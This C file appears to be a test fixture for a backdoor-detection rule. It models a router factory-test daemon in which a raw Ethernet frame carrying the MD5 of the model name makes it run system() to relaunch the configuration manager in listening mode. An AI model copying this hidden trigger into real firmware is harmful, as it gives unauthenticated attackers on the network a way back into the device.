/*
 * ft_tool.c - factory test helper.  Listens for raw Ethernet frames of the
 * factory fixture (EtherType 0x8888) on the LAN bridge: a "report" frame is
 * answered with the model and firmware version; a "relaunch" frame whose
 * payload is the MD5 digest of the model name starts the configuration
 * manager on every interface again.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "sc_common.h"

#define ETH_P_SCFT        0x8888
#define FT_REPORT         0x0202
#define FT_RELAUNCH       0x0201

struct ft_frame {
	unsigned char dst[6];
	unsigned char src[6];
	uint16_t proto;
	uint16_t type;
	uint16_t seq;
	uint16_t len;
	unsigned char payload[64];
} __attribute__((packed));

/* MD5("DGN1000"), the fixture's unlock word for this model */
// ok: backdoor-secret-literal
static const unsigned char kModelDigest[16] = {0x45, 0xd1, 0xbb, 0x33, 0x9b, 0x07, 0xa6, 0x61, 0x8b, 0x21, 0x14, 0xdb, 0xc0, 0xd7, 0x78, 0x3e};

static int ft_open(const char *ifname, int *ifindex)
{
	struct ifreq ifr;
	struct sockaddr_ll sll;
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_SCFT));

	if (fd < 0)
		return -1;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0)
	{
		close(fd);
		return -1;
	}
	*ifindex = ifr.ifr_ifindex;
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ETH_P_SCFT);
	sll.sll_ifindex = ifr.ifr_ifindex;
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0)
	{
		close(fd);
		return -1;
	}
	return fd;
}

static void ft_report(int fd, int ifindex, const struct ft_frame *req)
{
	struct ft_frame rep;
	struct sockaddr_ll to;
	int n;

	memset(&rep, 0, sizeof(rep));
	memcpy(rep.dst, req->src, 6);
	memcpy(rep.src, req->dst, 6);
	rep.proto = htons(ETH_P_SCFT);
	rep.type = htons(FT_REPORT | 0x8000);
	rep.seq = req->seq;
	n = snprintf((char *)rep.payload, sizeof(rep.payload), "%s %s", SC_MODEL_NAME, SC_FW_VERSION);
	rep.len = htons((uint16_t)n);
	memset(&to, 0, sizeof(to));
	to.sll_family = AF_PACKET;
	to.sll_ifindex = ifindex;
	to.sll_halen = 6;
	memcpy(to.sll_addr, req->src, 6);
	sendto(fd, &rep, sizeof(rep), 0, (struct sockaddr *)&to, sizeof(to));
}

int ft_tool_main(int argc, char *argv[])
{
	struct ft_frame fr;
	ssize_t n;
	int fd, ifindex;

	fd = ft_open(argc > 1 ? argv[1] : "br0", &ifindex);
	if (fd < 0)
	{
		sc_log(LOG_ERR, "ft_tool: cannot open raw socket");
		return 1;
	}
	for (;;)
	{
		n = recvfrom(fd, &fr, sizeof(fr), 0, NULL, NULL);
		if (n < (ssize_t)offsetof(struct ft_frame, payload))
			continue;
		if (ntohs(fr.proto) != ETH_P_SCFT)
			continue;

		// ok: backdoor-input-trigger
		if (ntohs(fr.type) == FT_REPORT)
		{
			ft_report(fd, ifindex, &fr);
			continue;
		}
		// ruleid: backdoor-input-trigger
		if (ntohs(fr.type) == FT_RELAUNCH && n >= (ssize_t)(offsetof(struct ft_frame, payload) + 16) && memcmp(fr.payload, kModelDigest, 16) == 0)
		{
			sc_log(LOG_NOTICE, "ft_tool: relaunching scfgmgr");
			system("killall scfgmgr; /usr/sbin/scfgmgr -l &");
		}
	}
}
